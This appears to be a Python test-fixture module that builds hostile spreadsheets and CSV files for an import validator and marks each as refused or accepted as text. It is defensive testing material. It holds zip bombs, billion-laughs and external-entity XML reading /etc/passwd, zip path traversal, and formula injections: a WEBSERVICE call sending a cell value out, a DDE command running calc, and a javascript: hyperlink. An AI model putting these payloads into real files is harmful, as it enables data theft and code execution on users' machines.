"""Hostile spreadsheets: how each is made from one that is right, and whether it must be refused or may come in as mere text."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable

import openpyxl

REFUSED, TEXT = "refused", "text"
SHEET = "xl/worksheets/sheet4.xml"
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "haha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><worksheet>&b;</worksheet>'
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><worksheet>&a;</worksheet>'
LATE = b'<?xml version="1.0"?>' + b" " * 5000 + LAUGHS.removeprefix(b'<?xml version="1.0"?>')
ROWS = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>'
LINK = '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/></externalLink>'
TO = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}"{mode}/></Relationships>'


def tables(right: bytes, sheet: str, text: str) -> dict[str, tuple[bytes, str]]:
    """File name → the bytes, and what is to come of it. `right` is a workbook with one new record in the second row of `sheet`, `text` the heading of a text there."""
    parts, cells = _packer(right), _filler(right, sheet, text)
    return {
        "empty.xlsx": (b"", REFUSED),
        "empty.csv": (b"", REFUSED),
        "no-zip.xlsx": (b"not a workbook", REFUSED),
        "empty-zip.xlsx": (_zip({}), REFUSED),
        "no-parts.xlsx": (_zip({"hello.txt": b"hello"}), REFUSED),
        "many-parts.xlsx": (parts({f"x/{number}": b"" for number in range(1001)}), REFUSED),
        "out-of-the-zip.xlsx": (_zip({"../../evil.xml": b"<a/>", "/etc/evil": b""}), REFUSED),
        "cut-short.xlsx": (right[: len(right) // 2], REFUSED),
        "bomb.xlsx": (parts({SHEET: b"0" * (101 * 1024 * 1024)}), REFUSED),
        "bomb-that-lies.xlsx": (_lying(parts({SHEET: b"0" * (90 * 1024 * 1024)}), 90 * 1024 * 1024, 1000), REFUSED),
        "bomb-within.xlsx": (parts({"xl/inner.zip": _zip({"a": b"0" * (90 * 1024 * 1024)})}), TEXT),
        "laughs.xlsx": (parts({SHEET: LAUGHS}), REFUSED),
        "wide-laughs.xlsx": (parts({SHEET: LAUGHS.decode().encode("utf-16")}), REFUSED),
        "late-laughs.xlsx": (parts({SHEET: LATE}), REFUSED),
        "entity-from-outside.xlsx": (parts({SHEET: OUTSIDE}), REFUSED),
        "laughs-in-texts.xlsx": (parts({"xl/sharedStrings.xml": LAUGHS}), REFUSED),
        "broken.xlsx": (parts({SHEET: b"<worksheet><sheetData><row r='x'>"}), REFUSED),
        "deep.xlsx": (parts({SHEET: b"<a>" * 1_000_000}), REFUSED),
        "target-outside.xlsx": (parts({"xl/_rels/workbook.xml.rels": TO.format(kind="worksheet", target="../../../../etc/passwd", mode="").encode()}), REFUSED),
        "text-that-is-not-there.xlsx": (parts({SHEET: _sheet('<row r="1"><c r="A1" t="s"><v>999999</v></c></row>')}), REFUSED),
        "cell-beyond-all.xlsx": (parts({SHEET: _sheet('<row r="1"><c r="ZZZZZZZ1"><v>1</v></c></row>')}), REFUSED),
        "last-row.xlsx": (parts({SHEET: _sheet('<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="A1048576"><v>1</v></c></row>')}), REFUSED),
        "row-beyond-all.xlsx": (parts({SHEET: _sheet('<row r="9999999999"><c r="A9999999999"><v>1</v></c></row>')}), REFUSED),
        "millions-of-rows-said.xlsx": (_saying(right, "A1:XFD1048576"), TEXT),
        "link-elsewhere.xlsx": (
            parts(
                {
                    "xl/externalLinks/externalLink1.xml": LINK.encode(),
                    "xl/externalLinks/_rels/externalLink1.xml.rels": TO.format(
                        kind="externalLinkPath", target="http://127.0.0.1:1/x.xlsx", mode=' TargetMode="External"'
                    ).encode(),
                }
            ),
            TEXT,
        ),
        "macro.xlsx": (parts({"xl/vbaProject.bin": b"\xcc\x61 Auto_Open"}), TEXT),
        "formula.xlsx": (cells("=1+1"), REFUSED),
        "formula-that-sends.xlsx": (cells('=WEBSERVICE("http://127.0.0.1:1/"&A1)'), REFUSED),
        "formula-that-runs.xlsx": (cells("=cmd|' /C calc'!A0"), REFUSED),
        "formula-of-a-link.xlsx": (cells('=HYPERLINK("javascript:alert(1)","x")'), REFUSED),
        "text-like-a-formula.xlsx": (cells("=1+1", kind="s"), TEXT),
        "text-of-a-script.xlsx": (cells("<script>alert(1)</script>"), TEXT),
        "text-turned.xlsx": (cells("alla \u202edlog"), REFUSED),
        "text-not-seen.xlsx": (cells("a\u200bb"), REFUSED),
        "text-without-end.xlsx": (cells("x" * 30_000), REFUSED),
        "old.xls": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4000), REFUSED),
        "quotes.csv": (b'method;state\n"never closed', REFUSED),
        "no-table.csv": (b"one;two\n1;2\n", REFUSED),
        "one-line.csv": (b"method\n" + b"x" * 200_000, REFUSED),
        "many-lines.csv": (b"method;state\n" + b"a;b\n" * 20_002, REFUSED),
        "many-columns.csv": (b";".join(b"method%d" % number for number in range(400)) + b"\n", REFUSED),
        "null.csv": (b"method;state\n\0;\0\n", REFUSED),
    }


def _zip(parts: dict[str, bytes], there: bytes | None = None) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as packed:
        if there:
            with zipfile.ZipFile(io.BytesIO(there)) as old:
                for name in old.namelist():
                    if name not in parts:
                        packed.writestr(name, old.read(name))
        for name, data in parts.items():
            packed.writestr(name, data)
    return stream.getvalue()


def _packer(right: bytes) -> Callable[[dict[str, bytes]], bytes]:
    return lambda parts: _zip(parts, right)


def _filler(right: bytes, sheet: str, text: str) -> Callable[..., bytes]:
    def cells(value: str, kind: str = "") -> bytes:
        book = openpyxl.load_workbook(io.BytesIO(right))
        column = next(cell.column for cell in book[sheet][1] if cell.value == text)
        cell = book[sheet].cell(2, column)
        cell.value = value
        if kind:
            cell.data_type = kind
        stream = io.BytesIO()
        book.save(stream)
        return stream.getvalue()

    return cells


def _lying(data: bytes, size: int, said: int) -> bytes:
    """The zip, with another size said of the part that has this one."""
    return data.replace(size.to_bytes(4, "little"), said.to_bytes(4, "little"))


def _sheet(rows: str) -> bytes:
    return ROWS.format(rows=rows).encode()


def _saying(right: bytes, area: str) -> bytes:
    """The workbook with another area said of each of its sheets."""
    with zipfile.ZipFile(io.BytesIO(right)) as packed:
        sheets = {name: packed.read(name) for name in packed.namelist() if name.startswith("xl/worksheets/sheet")}
    return _zip({name: re.sub(rb'<dimension ref="[^"]*"', f'<dimension ref="{area}"'.encode(), data) for name, data in sheets.items()}, right)
